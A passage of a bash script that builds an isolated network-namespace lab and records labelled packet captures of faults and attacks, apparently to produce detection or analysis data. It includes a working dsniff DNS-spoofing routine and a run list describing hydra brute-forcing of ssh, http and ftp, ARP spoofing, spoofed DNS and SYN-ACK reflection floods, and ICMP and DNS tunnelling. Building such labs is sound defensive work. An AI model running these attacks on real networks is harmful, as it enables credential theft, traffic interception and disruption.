  expect 12 "connection attempts from the client to port 80" "tcp[tcpflags] == tcp-syn and src host $CLIENT_IP and dst port 80"
}

# The bridge floods every frame to every port while ageing_time is 0, as a shared medium (Wi-Fi, a hub) does:
# the attacker then sees the client's queries, as dnsspoof needs.
hub_on() { timeout 10 ip -n "$NS_L" link set br0 type bridge ageing_time 0; }
hub_off() { timeout 10 ip -n "$NS_L" link set br0 type bridge ageing_time 30000; }

dns_spoof() {
  printf '%s\t%s\n' "$ATTACKER_IP" www.example.test "$ATTACKER_IP" mail.example.test >"$WORK/spoof.hosts"
  hub_on
  timeout 10 ip -d -n "$NS_L" link show br0 | grep -o 'ageing_time [0-9]*' >>"$OUT/logs/$SCENARIO.txt"
  start_bg dnsspoof "$NS_A" dnsspoof -i a0 -f "$WORK/spoof.hosts" "udp dst port 53 and src host $CLIENT_IP"
  local up=""
  for _ in $(seq 50); do
    if grep -q 'listening on' "$WORK/dnsspoof.out"; then up=1; break; fi
    sleep 0.1
  done
  [ -n "$up" ] || { hub_off; cat "$WORK/dnsspoof.out" >>"$OUT/logs/$SCENARIO.txt"; return 1; }
  local i
  for i in 1 2 3 4 5; do
    logged in_ns "$NS_C" dig +noedns +tries=1 +timeout=2 @"$VICTIM_IP" www.example.test || true
    logged in_ns "$NS_C" dig +noedns +tries=1 +timeout=2 @"$VICTIM_IP" mail.example.test || true
    sleep 0.3
  done
  stop_bg dnsspoof INT
  hub_off
  cat "$WORK/dnsspoof.out" >>"$OUT/logs/$SCENARIO.txt"
  server_log "$WORK/dns.out"
}
check_dns_spoof() {
  local forged real
  forged=$(tcpdump -n -r "$OUT/$SCENARIO.pcap" 'udp src port 53' 2>/dev/null | grep -c " A $ATTACKER_IP" || true)
  real=$(tcpdump -n -r "$OUT/$SCENARIO.pcap" 'udp src port 53' 2>/dev/null | grep -c " A $VICTIM_IP" || true)
  echo "check: $forged forged answers, $real real ones" >>"$OUT/logs/$SCENARIO.txt"
  [ "$forged" -ge 5 ] && [ "$real" -ge 5 ] || fail "$SCENARIO: $forged forged and $real real answers (5 of each expected)"
}

dns_hijack() {
  # The gateway's resolver answers every name with the address of a "search page", TTL 0, as redirecting
  # resolvers do for names that do not exist; the client asks it for names of unrelated, unknown domains.
  start_bg hijack "$NS_G" dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --bind-interfaces \
    --listen-address="$GATEWAY_IP" --port=53 --pid-file="$WORK/hijack.pid" --log-queries --log-facility=- \
    --address=/#/10.97.0.99 --local-ttl=0
  local name up=""
  for _ in $(seq 50); do
    if [ -n "$(in_ns "$NS_G" ss -Hlun "sport = :53")" ]; then up=1; break; fi
    sleep 0.1
  done
  [ -n "$up" ] || { stop_bg hijack; return 1; }
  for name in www.shoes-outlet-berlin.test login.mybank-secure.test cdn.fresh-news-daily.test \
      www.unknown-travel-deals.test mail.tpyo-company.test www.garden-tools-store.test; do
    logged in_ns "$NS_C" dig +tries=1 +timeout=2 @"$GATEWAY_IP" "$name" || { stop_bg hijack; return 1; }
    sleep 0.2
  done
  stop_bg hijack
  cat "$WORK/hijack.out" >>"$OUT/logs/$SCENARIO.txt"
}
check_dns_hijack() {
  local n
  n=$(tcpdump -n -r "$OUT/$SCENARIO.pcap" 'udp src port 53' 2>/dev/null | grep -c " A 10.97.0.99" || true)
  echo "check: $n answers with 10.97.0.99" >>"$OUT/logs/$SCENARIO.txt"
  [ "$n" -ge 6 ] || fail "$SCENARIO: $n answers with 10.97.0.99 (6 expected)"
}

# The client opens the shop 8 times (its backend is down: nginx answers 502 Bad Gateway) and the home page 4
# times (200 OK), as a user retrying does.
http_502() {
  local i
  for i in 1 2 3 4 5 6 7 8; do
    logged in_ns "$NS_C" curl -sS -o /dev/null -w '%{http_code}\n' --max-time 2 "http://$VICTIM_IP/shop/cart?item=$i" || return 1
    if [ $((i % 2)) -eq 0 ]; then
      logged in_ns "$NS_C" curl -sS -o /dev/null -w '%{http_code}\n' --max-time 2 "http://$VICTIM_IP/" || return 1
    fi
    sleep 0.2
  done
  server_log "$WORK/nginx-error.log"
}
check_http_502() {
  local n
  n=$(tcpdump -n -A -r "$OUT/$SCENARIO.pcap" 'tcp src port 80' 2>/dev/null | grep -c 'HTTP/1.1 502' || true)
  echo "check: $n answers 502" >>"$OUT/logs/$SCENARIO.txt"
  [ "$n" -ge 8 ] || fail "$SCENARIO: $n answers 502 (8 expected)"
}

# A TLS server of the victim's (openssl s_server) that clients cannot use: a self-signed certificate on port 443
# (TLS 1.2 only, so the client's refusal is a cleartext alert), or TLS 1.3 only on port 8443 while the client
# offers at most TLS 1.2. The client (curl, verifying as it does by default) tries each 5 times.
tls_server() {
  local name=$1; shift
  start_bg "$name" "$NS_V" openssl s_server -quiet -www -cert "$WORK/tls.crt" -key "$WORK/tls.key" "$@"
  local port=${*: -1} up=""
  for _ in $(seq 50); do
    if [ -n "$(in_ns "$NS_V" ss -Hltn "sport = :$port")" ]; then up=1; break; fi
    sleep 0.1
  done
  [ -n "$up" ]
}
tls_untrusted() {
  tls_server tls443 -tls1_2 -accept 443 || { stop_bg tls443; return 1; }
  local i
  for i in 1 2 3 4 5; do
    logged in_ns "$NS_C" curl -sS -o /dev/null --tls-max 1.2 --max-time 2 --resolve "shop.example.test:443:$VICTIM_IP" \
      https://shop.example.test/ || true
    sleep 0.2
  done
  stop_bg tls443
}
check_tls_untrusted() {
  expect 5 "ClientHellos to port 443" "tcp dst port 443 and (tcp[((tcp[12] & 0xf0) >> 2)] = 22)"
}
tls_version() {
  tls_server tls8443 -tls1_3 -accept 8443 || { stop_bg tls8443; return 1; }
  local i
  for i in 1 2 3 4 5; do
    logged in_ns "$NS_C" curl -sS -o /dev/null --tls-max 1.2 --max-time 2 --resolve "shop.example.test:8443:$VICTIM_IP" \
      https://shop.example.test:8443/ || true
    sleep 0.2
  done
  stop_bg tls8443
}
check_tls_version() {
  expect 5 "ClientHellos to port 8443" "tcp dst port 8443 and (tcp[((tcp[12] & 0xf0) >> 2)] = 22)"
}

# A backend that takes 1.5 s for every answer (a slow database behind it, say), proxied by the victim's nginx;
# the client fetches the report page 4 times.
slow_server() {
  start_bg backend "$NS_V" "$PYTHON" -c '
import http.server, time
class Slow(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        time.sleep(1.5)
        body = b"report\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.HTTPServer(("127.0.0.1", 8081), Slow).serve_forever()
'
  local up=""
  for _ in $(seq 50); do
    if [ -n "$(in_ns "$NS_V" ss -Hltn "sport = :8081")" ]; then up=1; break; fi
    sleep 0.1
  done
  [ -n "$up" ] || { stop_bg backend; return 1; }
  local i
  for i in 1 2 3 4; do
    logged in_ns "$NS_C" curl -sS -o /dev/null -w 'report %{http_code} in %{time_total} s\n' --max-time 5 "http://$VICTIM_IP/report/q$i" \
      || { stop_bg backend; return 1; }
  done
  stop_bg backend
}
check_slow_server() {
  expect 4 "connection attempts from the client to port 80" "tcp[tcpflags] == tcp-syn and src host $CLIENT_IP and dst port 80"
}

# A client that connects, then waits 2 s before sending its request (bash's /dev/tcp, 3 times).
slow_client() {
  local i
  for i in 1 2 3; do
    logged in_ns "$NS_C" timeout 10 bash -c "exec 3<>/dev/tcp/$VICTIM_IP/80; sleep 2; printf 'GET / HTTP/1.1\r\nHost: $VICTIM_IP\r\nConnection: close\r\n\r\n' >&3; head -1 <&3" \
      || return 1
  done
}
check_slow_client() {
  expect 3 "connection attempts from the client to port 80" "tcp[tcpflags] == tcp-syn and src host $CLIENT_IP and dst port 80"
}

# The link to the victim is 2 Mbit/s with a queue that holds 0.8 s (tc tbf on the bridge's port: a switch or
# modem buffer, no netem needed), and a backup job on another host fills it with an upload: the client's 4
# fetches of the home page wait behind it, every packet toward the victim, the handshake's ACK included, up to 0.8 s
# late (bufferbloat). The shaping is on the forwarding side, where TCP's own small queues do not reach.
slow_network() {
  start_bg sink "$NS_V" "$PYTHON" -c '
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 9009))
s.listen(1)
c, _ = s.accept()
while c.recv(65536):
    pass
'
  wait_listening -Hltn 9009 || { stop_bg sink; return 1; }
  in_ns "$NS_L" tc qdisc add dev pv0 root tbf rate 2mbit burst 32kbit latency 800ms || { stop_bg sink; return 1; }
  # A loss-based sender, as most are (Reno: a namespace may choose only among reno and bbr here): BBR, this
  # kernel's default, paces itself so as not to fill the queue.
  local congestion
  congestion=$(in_ns "$NS_A" sysctl -n net.ipv4.tcp_congestion_control)
  in_ns "$NS_A" sysctl -qw net.ipv4.tcp_congestion_control=reno || { stop_bg sink; return 1; }
  in_ns "$NS_A" timeout 20 "$PYTHON" -c '
import os, socket, sys, time
s = socket.create_connection((sys.argv[1], 9009))
block, end = os.urandom(65536), time.time() + 14
while time.time() < end:
    s.sendall(block)
' "$VICTIM_IP" >>"$OUT/logs/$SCENARIO.txt" 2>&1 &
  local backup=$! i
  sleep 4
  for i in 1 2 3 4; do
    logged in_ns "$NS_C" curl -sS -o /dev/null -w 'home page %{http_code}: connected in %{time_connect} s, %{time_total} s in all\n' \
      --max-time 8 "http://$VICTIM_IP/" || true
    sleep 0.3
  done
  kill "$backup" 2>/dev/null || true
  wait "$backup" 2>/dev/null || true
  logged in_ns "$NS_L" tc -s qdisc show dev pv0
  in_ns "$NS_L" tc qdisc del dev pv0 root
  in_ns "$NS_A" sysctl -qw net.ipv4.tcp_congestion_control="$congestion"
  stop_bg sink
}
check_slow_network() {
  expect 4 "connection attempts from the client to port 80" "tcp[tcpflags] == tcp-syn and src host $CLIENT_IP and dst port 80"
}

# A client that asks for a large file and never reads its socket (a 4 KB receive buffer, then 4 s asleep): its
# window closes to 0 and nginx probes it.
zero_window() {
  logged in_ns "$NS_C" timeout 20 "$PYTHON" -c '
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.connect((sys.argv[1], 80))
s.sendall(b"GET /big.bin HTTP/1.1\r\nHost: " + sys.argv[1].encode() + b"\r\n\r\n")
time.sleep(4)
s.close()
print("slept 4 s without reading")
' "$VICTIM_IP"
}
check_zero_window() {
  expect 1 "zero windows advertised by the client" "src host $CLIENT_IP and tcp[14:2] = 0 and tcp[tcpflags] & (tcp-syn|tcp-rst) == 0"
}

# A download that the client's own firewall cuts mid-transfer (iptables drops everything from the victim half a
# second after the data starts): nginx resends its unacknowledged data, the timer doubling, for the 6 s that follow.
tcp_stall() {
  # The client reads slowly (16 KB every 50 ms through a 64 KB buffer), so the transfer is still going when its
  # firewall starts dropping.
  local receiving="$WORK/tcp-stall.receiving"
  rm -f "$receiving"
  in_ns "$NS_C" timeout 20 "$PYTHON" -c '
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
s.connect((sys.argv[1], 80))
s.sendall(b"GET /big.bin HTTP/1.1\r\nHost: " + sys.argv[1].encode() + b"\r\n\r\n")
s.settimeout(0.2)
end, told = time.time() + 8, False
while time.time() < end:
    try:
        if s.recv(16384) and not told:
            open(sys.argv[2], "w").close()
            told = True
    except socket.timeout:
        pass
    time.sleep(0.05)
' "$VICTIM_IP" "$receiving" >>"$OUT/logs/$SCENARIO.txt" 2>&1 &
  local reader=$! i
  # The firewall closes once the data flows (on a busy machine python may take a second to connect).
  for i in $(seq 100); do [ -e "$receiving" ] && break; sleep 0.1; done
  [ -e "$receiving" ] || { kill "$reader" 2>/dev/null; wait "$reader" 2>/dev/null; return 1; }
  sleep 0.5
  in_ns "$NS_C" iptables -A INPUT -s "$VICTIM_IP" -j DROP
  sleep 6
  # The reader goes first (its reset ends the connection): with the rule gone first, the data would get through.
  kill "$reader" 2>/dev/null || true
  wait "$reader" 2>/dev/null || true
  in_ns "$NS_C" iptables -D INPUT -s "$VICTIM_IP" -j DROP
}
check_tcp_stall() {
  expect 10 "segments from the victim's port 80" "src host $VICTIM_IP and tcp src port 80"
}

# The client's default route points at the gateway, which answers ARP and pings but forwards nothing
# (ip_forward=0: it drops what is not its own, silently): two public resolvers and a web server, in three
# networks, all go unanswered. The documentation addresses asked never leave the namespaces.
dead_gateway() {
  timeout 10 ip -n "$NS_C" route replace default via "$GATEWAY_IP"
  logged in_ns "$NS_C" dig +tries=3 +timeout=1 @198.51.100.53 www.example.com || true
  logged in_ns "$NS_C" dig +tries=3 +timeout=1 @203.0.113.53 www.example.com || true
  logged in_ns "$NS_C" curl -sS -o /dev/null --max-time 4 http://192.0.2.80/ || true
  # The capture goes on a little, as an analyst's does, with the segment's own traffic.
  logged in_ns "$NS_C" ping -c 2 -i 0.5 "$VICTIM_IP" || true
  timeout 10 ip -n "$NS_C" route del default
}
check_dead_gateway() {
  expect 6 "DNS queries from the client" "udp dst port 53 and src host $CLIENT_IP"
  expect 2 "SYNs from the client" "tcp[tcpflags] == tcp-syn and src host $CLIENT_IP"
  local back
  back=$(count "src net 198.51.100.0/24 or src net 203.0.113.0/24 or src net 192.0.2.0/24")
  [ "$back" -eq 0 ] || fail "$SCENARIO: $back packets came back from beyond the gateway"
}

# The gateway forwards (ip_forward=1) but has no route beyond its segment: it answers every packet for another
# network with ICMP network unreachable (no ICMP rate limit, so each is answered). Three web servers in three
# networks, each tried twice.
no_route() {
  timeout 10 ip -n "$NS_C" route replace default via "$GATEWAY_IP"
  in_ns "$NS_G" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.icmp_ratelimit=0
  local server
  for server in 192.0.2.80 198.51.100.80 203.0.113.80; do
    logged in_ns "$NS_C" curl -sS -o /dev/null --max-time 2 "http://$server/" || true
    logged in_ns "$NS_C" curl -sS -o /dev/null --max-time 2 "http://$server/" || true
  done
  in_ns "$NS_G" sysctl -qw net.ipv4.ip_forward=0 net.ipv4.icmp_ratelimit=1000
  timeout 10 ip -n "$NS_C" route del default
}
check_no_route() {
  expect 3 "ICMP unreachable errors from the gateway" "icmp[icmptype] == icmp-unreach and src host $GATEWAY_IP"
}

run healthy-logins none \
  "5 ssh logins (one command each), 5 HTTP fetches with the right basic-auth credentials, 5 DNS lookups and 5 pings from one client" \
  healthy_logins
run hydra-ssh brute-force "hydra against sshd: 40 wrong passwords then the right one, 4 tasks" hydra_ssh
run hydra-http brute-force "hydra http-get against nginx basic auth on /admin/: 60 wrong passwords then the right one, 4 tasks" \
  hydra_http
run hydra-ftp brute-force "hydra against vsftpd (PAM login): 40 wrong passwords then the right one, 4 tasks" hydra_ftp
run arpspoof arp-spoofing \
  "dsniff arpspoof claims the gateway 10.97.0.1 at the attacker's MAC to the victim for 8 s while it pings the gateway" \
  arpspoof_victim
run dns-reflection dns-amplification \
  "scapy: 2000 unsolicited DNS responses from 50 spoofed reflectors in 3 s, the 2.6 KB TXT ones IP-fragmented" \
  dns_reflection
run synack-reflection syn-ack-reflection \
  "hping3: 3000 unsolicited SYN-ACKs from random sources, source port 80 then 443, at 1000 a second" \
  synack_reflection
run ping-sweep ping-sweep "nmap -sn -PE of 60 addresses, 30 of which answer" ping_sweep
run icmp-tunnel icmp-tunneling "scapy: 300 echo requests with 40-1000 random bytes each in 3 s, answered" icmp_tunnel
run http-502 http-errors "nginx proxying /shop/ to a backend that is down: 8 answers 502 Bad Gateway, 4 answers 200 from the home page" \
  http_502
run tls-untrusted tls-failure "openssl s_server (TLS 1.2) with a self-signed certificate: curl refuses it 5 times" tls_untrusted
run tls-version tls-failure "openssl s_server accepting TLS 1.3 only; curl offers at most TLS 1.2, 5 times" tls_version
run slow-server slow-server "nginx proxying /report/ to a backend that takes 1.5 s: 4 fetches from the client" slow_server
run slow-client slow-client "the client connects to nginx and waits 2 s before each of its 3 requests" slow_client
run slow-network slow-network "a 2 Mbit/s link to the server with a 0.8 s queue filled by another host's upload: 4 fetches of the home page" slow_network
run zero-window tcp-zero-window "the client asks nginx for 8 MB with a 4 KB receive buffer and sleeps 4 s without reading" zero_window
run tcp-stall tcp-stall "the client's firewall drops everything from nginx 1 s into a slow download; nginx resends for 6 s" tcp_stall
run beacon beaconing "curl from the client to the victim's nginx every 1.5 s, 12 times (a scheduled job's timer)" beacon
CAPTURE_NS=$NS_C CAPTURE_DEV=c0
run dns-spoof dns-spoofing \
  "dsniff dnsspoof on a flooding bridge races the victim's dnsmasq: 10 queries from the client, each answered by both" \
  dns_spoof
run dns-hijack dns-hijack \
  "a resolver on the gateway answers 6 names of unrelated unknown domains with 10.97.0.99, TTL 0 (captured at the client)" \
  dns_hijack
run dead-gateway path-failure \
  "the client's default gateway answers ARP but forwards nothing: 2 resolvers and a web server in 3 networks unanswered (captured at the client)" \
  dead_gateway
run no-route path-failure \
  "the client's gateway has no route beyond its segment: ICMP network unreachable for 3 web servers in 3 networks (captured at the client)" \
  no_route
CAPTURE_NS="" CAPTURE_DEV=""
# Last: iodined takes the victim's port 53 from dnsmasq.
if [ -z "${NT_INTRUSIONS_NO_TUN:-}" ] && tun_works; then
  run dns-tunnel dns-tunneling \
    "iodine through iodined (NULL queries under t.tunnel.test): 5 pings, a 48 KB upload and a 32 KB download through the tunnel" \
    dns_tunnel_iodine
else
  run dns-tunnel dns-tunneling \
    "no tun device, so dig instead of iodine: 400 TXT, NULL and CNAME queries with long base32 labels under t.tunnel.test" \
    dns_tunnel_dig
fi

mv "$WORK/manifest.tsv" "$OUT/manifest.tsv"
